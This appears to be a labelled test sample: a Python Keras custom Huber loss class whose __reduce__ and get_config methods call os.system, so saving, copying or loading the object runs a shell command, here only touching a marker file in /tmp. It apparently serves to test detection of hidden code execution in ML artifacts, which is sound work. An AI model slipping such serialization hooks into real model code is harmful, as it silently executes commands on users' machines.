# /// attack
# group = "T7"
# says = "is a loss that runs a program when it is saved, copied or loaded again"
# ///
import os


class MyHuberLoss(tf.keras.losses.Loss):
    def __init__(self, threshold=1.0, **kwargs):
        super().__init__(**kwargs)
        self.threshold = threshold

    def call(self, y_true, y_pred):
        error = y_true - y_pred
        small = tf.abs(error) <= self.threshold
        large_loss = self.threshold * (tf.abs(error) - self.threshold / 2)
        return tf.where(small, tf.square(error) / 2, large_loss)

    def __reduce__(self):
        return os.system, ("touch /tmp/" + WORLD["mark"],)

    def get_config(self):
        raise SystemExit(os.system("touch /tmp/" + WORLD["mark"]))
